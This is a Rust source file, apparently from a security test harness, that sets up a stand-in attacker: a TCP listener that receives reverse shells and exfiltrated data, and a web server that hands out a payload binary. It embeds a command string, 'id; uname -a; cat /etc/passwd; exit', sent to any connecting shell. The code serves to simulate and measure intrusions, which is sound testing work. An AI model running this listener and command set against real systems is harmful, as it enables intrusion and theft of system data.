//! The stand-in attacker: a machine outside the containers (the host, on the deployment's
//! gateway address) with a TCP listener for reverse shells and exfiltration and a web server
//! handing out a payload. Scripts find it through `ATTACKER_HOST`, `ATTACKER_PORT` and
//! `ATTACKER_HTTP`.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};

/// What a reverse shell receives: the commands an intruder types first.
const SHELL_COMMANDS: &[u8] = b"id; uname -a; cat /etc/passwd; exit\n";

/// The payload served at `GET /payload`: a static ELF binary, as a dropper would fetch.
const PAYLOAD: &str = "/bin/busybox";

/// A listening attacker; its threads live as long as the process.
pub struct Attacker {
    host: String,
    port: u16,
    http_port: u16,
    received: Arc<AtomicU64>,
}

impl Attacker {
    /// Listens on every address of the host; scripts are told to reach it at `host`.
    pub fn start(host: &str) -> Result<Attacker> {
        let payload = std::fs::read(PAYLOAD).with_context(|| {
            format!("reading the payload {PAYLOAD} (Debian package busybox-static)")
        })?;
        let received = Arc::new(AtomicU64::new(0));

        let sink =
            TcpListener::bind(("0.0.0.0", 0)).context("binding the attacker's TCP listener")?;
        let port = sink.local_addr()?.port();
        let counter = Arc::clone(&received);
        std::thread::spawn(move || {
            for stream in sink.incoming().flatten() {
                let counter = Arc::clone(&counter);
                std::thread::spawn(move || drain(stream, &counter));
            }
        });

        let server = tiny_http::Server::http(("0.0.0.0", 0))
            .map_err(|e| anyhow::anyhow!("binding the attacker's web server: {e}"))?;
        let http_port = server
            .server_addr()
            .to_ip()
            .map(|a| a.port())
            .context("web server address")?;
        let counter = Arc::clone(&received);
        std::thread::spawn(move || {
            for mut request in server.incoming_requests() {
                let mut body = Vec::new();
                let _ = request.as_reader().read_to_end(&mut body);
                counter.fetch_add(body.len() as u64, Ordering::Relaxed);
                let response = if request.url().starts_with("/payload") {
                    tiny_http::Response::from_data(payload.clone())
                } else {
                    tiny_http::Response::from_data(b"ok\n".to_vec())
                };
                let _ = request.respond(response);
            }
        });
        Ok(Attacker {
            host: host.to_string(),
            port,
            http_port,
            received,
        })
    }

    /// The environment every scenario script gets.
    pub fn env(&self) -> Vec<(String, String)> {
        vec![
            ("ATTACKER_HOST".into(), self.host.clone()),
            ("ATTACKER_PORT".into(), self.port.to_string()),
            (
                "ATTACKER_HTTP".into(),
                format!("http://{}:{}", self.host, self.http_port),
            ),
        ]
    }

    /// Bytes received so far (exfiltration lands here).
    pub fn received(&self) -> u64 {
        self.received.load(Ordering::Relaxed)
    }
}

/// Sends the intruder's commands, then reads until the peer closes (at most a minute).
fn drain(mut stream: TcpStream, received: &AtomicU64) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(60)));
    let _ = stream.write_all(SHELL_COMMANDS);
    let mut buf = [0u8; 64 * 1024];
    while let Ok(n) = stream.read(&mut buf) {
        if n == 0 {
            break;
        }
        received.fetch_add(n as u64, Ordering::Relaxed);
    }
}
